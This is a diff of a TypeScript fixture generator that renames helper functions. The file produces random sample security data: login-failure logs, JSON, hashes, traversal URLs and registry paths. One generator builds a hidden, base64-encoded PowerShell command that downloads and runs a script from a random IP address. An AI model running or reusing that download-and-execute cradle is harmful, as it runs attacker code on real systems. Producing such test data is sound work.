@@ -28,40 +28,46 @@ const CODE = [
   'cat /var/log/auth.log | awk \'/Failed/{print $(NF-3)}\' | sort | uniq -c | sort -rn | head -20 >&2 && echo "done: $?"',
 ]
 
-const pad = (value: number, width = 2): string => String(value).padStart(width, '0')
-const address = (chance: SeededRandom): string => Array.from({ length: 4 }, () => chance.below(256)).join('.')
-const clock = (chance: SeededRandom): string =>
-  `${pad(chance.below(24))}:${pad(chance.below(60))}:${pad(chance.below(60))}`
-const lines = (count: number, line: () => string): string => Array.from({ length: count }, line).join('\n')
-const uuid = (chance: SeededRandom): string => [8, 4, 4, 4, 12].map((length) => chance.text(length, HEX)).join('-')
-const bytes = (chance: SeededRandom, length: number): Uint8Array => Uint8Array.from({ length }, () => chance.below(256))
+const padNumber = (value: number, width = 2): string => String(value).padStart(width, '0')
+const drawAddress = (chance: SeededRandom): string => Array.from({ length: 4 }, () => chance.below(256)).join('.')
+const drawClock = (chance: SeededRandom): string =>
+  `${padNumber(chance.below(24))}:${padNumber(chance.below(60))}:${padNumber(chance.below(60))}`
+const createLines = (count: number, line: () => string): string => Array.from({ length: count }, line).join('\n')
+const drawUuid = (chance: SeededRandom): string => [8, 4, 4, 4, 12].map((length) => chance.text(length, HEX)).join('-')
+const drawBytes = (chance: SeededRandom, length: number): Uint8Array =>
+  Uint8Array.from({ length }, () => chance.below(256))
 
 /** What questions, events and evidence are made of, as much as a few paragraphs of each. */
 export const TEXTS: Record<string, (chance: SeededRandom) => string> = {
-  english: (chance) => lines(4, () => chance.pick(ENGLISH)),
-  chinese: (chance) => lines(4, () => chance.pick(CHINESE)),
+  english: (chance) => createLines(4, () => chance.pick(ENGLISH)),
+  chinese: (chance) => createLines(4, () => chance.pick(CHINESE)),
   logs: (chance) =>
-    lines(8, () =>
+    createLines(8, () =>
       chance.pick([
-        `2026-11-22T${clock(chance)}.${pad(chance.below(1_000), 3)}Z FIN-WS-${pad(chance.below(99), 3)} sshd[${chance.below(65_535)}]: Failed password for invalid user admin from ${address(chance)} port ${chance.below(65_535)} ssh2`,
-        `${address(chance)} - - [22/Nov/2026:${clock(chance)} +0000] "GET /api/v1/items?id=${chance.below(9_999)} HTTP/1.1" 404 ${chance.below(99_999)} "-" "curl/8.5.0"`,
-        `EventID=4625 LogonType=${chance.below(11)} TargetUserName=svc_backup IpAddress=${address(chance)} Status=0xC000006D`,
+        `2026-11-22T${drawClock(chance)}.${padNumber(chance.below(1_000), 3)}Z FIN-WS-${padNumber(chance.below(99), 3)} sshd[${chance.below(65_535)}]: Failed password for invalid user admin from ${drawAddress(chance)} port ${chance.below(65_535)} ssh2`,
+        `${drawAddress(chance)} - - [22/Nov/2026:${drawClock(chance)} +0000] "GET /api/v1/items?id=${chance.below(9_999)} HTTP/1.1" 404 ${chance.below(99_999)} "-" "curl/8.5.0"`,
+        `EventID=4625 LogonType=${chance.below(11)} TargetUserName=svc_backup IpAddress=${drawAddress(chance)} Status=0xC000006D`,
       ]),
     ),
   'mixed logs': (chance) =>
-    lines(6, () =>
+    createLines(6, () =>
       chance.pick([
-        `2026-11-22 ${clock(chance)} [警告] 主机 FIN-WS-${pad(chance.below(99), 3)} 登录失败 user=zhangsan src=${address(chance)}:${chance.below(65_535)} 原因=密码错误`,
-        `【${chance.pick(['高危', '中危'])}】${address(chance)} 访问 https://cdn-update.example/a.php?id=${chance.below(9_999)}，规则 ET-${chance.below(99_999)} 命中 ${chance.below(99)} 次`,
+        `2026-11-22 ${drawClock(chance)} [警告] 主机 FIN-WS-${padNumber(chance.below(99), 3)} 登录失败 user=zhangsan src=${drawAddress(chance)}:${chance.below(65_535)} 原因=密码错误`,
+        `【${chance.pick(['高危', '中危'])}】${drawAddress(chance)} 访问 https://cdn-update.example/a.php?id=${chance.below(9_999)}，规则 ET-${chance.below(99_999)} 命中 ${chance.below(99)} 次`,
       ]),
     ),
   json: (chance) =>
-    lines(3, () =>
+    createLines(3, () =>
       JSON.stringify(
         {
           level: 'warn',
           time: 1_763_800_000_000 + chance.below(1e9),
-          request: { id: uuid(chance), method: 'GET', url: '/api/v1/items', headers: { 'user-agent': 'curl/8.5.0' } },
+          request: {
+            id: drawUuid(chance),
+            method: 'GET',
+            url: '/api/v1/items',
+            headers: { 'user-agent': 'curl/8.5.0' },
+          },
           bytes: [chance.below(999), chance.below(999)],
           user: null,
           ok: chance.next() > 0.5,
@@ -70,37 +76,38 @@ export const TEXTS: Record<string, (chance: SeededRandom) => string> = {
         chance.pick([0, 2]),
       ),
     ),
-  hashes: (chance) => lines(8, () => chance.text(chance.pick([32, 40, 64]), chance.pick([HEX, HEX.toUpperCase()]))),
-  identifiers: (chance) => lines(8, () => uuid(chance)),
-  base64: (chance) => Buffer.from(bytes(chance, 300)).toString(chance.pick(['base64', 'base64url'])),
+  hashes: (chance) =>
+    createLines(8, () => chance.text(chance.pick([32, 40, 64]), chance.pick([HEX, HEX.toUpperCase()]))),
+  identifiers: (chance) => createLines(8, () => drawUuid(chance)),
+  base64: (chance) => Buffer.from(drawBytes(chance, 300)).toString(chance.pick(['base64', 'base64url'])),
   'an encoded command': (chance) =>
-    `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${address(chance)}/${chance.text(6, LOWER)}.ps1")`, 'utf16le').toString('base64')}`,
-  tokens: (chance) => lines(6, () => chance.text(40, ALNUM)),
+    `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${drawAddress(chance)}/${chance.text(6, LOWER)}.ps1")`, 'utf16le').toString('base64')}`,
+  tokens: (chance) => createLines(6, () => chance.text(40, ALNUM)),
   'a dump': (chance) =>
-    lines(
+    createLines(
       6,
       () =>
-        `${pad(chance.below(9_999), 4)}: ${Array.from({ length: 8 }, () => chance.text(4, HEX)).join(' ')}  ................`,
+        `${padNumber(chance.below(9_999), 4)}: ${Array.from({ length: 8 }, () => chance.text(4, HEX)).join(' ')}  ................`,
     ),
-  addresses: (chance) => Array.from({ length: 20 }, () => address(chance)).join(chance.pick(['\n', ', ', ' '])),
+  addresses: (chance) => Array.from({ length: 20 }, () => drawAddress(chance)).join(chance.pick(['\n', ', ', ' '])),
   domains: (chance) =>
-    lines(
+    createLines(
       10,
       () => `${chance.text(6 + chance.below(12), LOWER)}.${chance.pick(['com', 'example', 'net', 'top', 'ru'])}`,
     ),
   urls: (chance) =>
-    lines(
+    createLines(
       4,
       () =>
         `https://${chance.text(8, LOWER)}.example/%2e%2e%2f${chance.text(6, ALNUM)}?q=%E6%94%BB%E5%87%BB&t=${chance.below(1e9)}`,
     ),
   paths: (chance) =>
-    lines(
+    createLines(
       4,
       () =>
         `C:\\Users\\m.chen\\AppData\\Local\\Temp\\~DF${chance.text(4, HEX.toUpperCase())}.tmp HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
     ),
-  code: (chance) => lines(2, () => chance.pick(CODE)),
+  code: (chance) => createLines(2, () => chance.pick(CODE)),
   emoji: (chance) => Array.from({ length: 30 }, () => chance.pick(EMOJI)).join(chance.pick(['', ' '])),
   digits: (chance) => chance.text(200, '0123456789'),
   signs: (chance) => chance.text(200, '!@#$%^&*()_+-=[]{}|;:\'",.<>/?`~'),
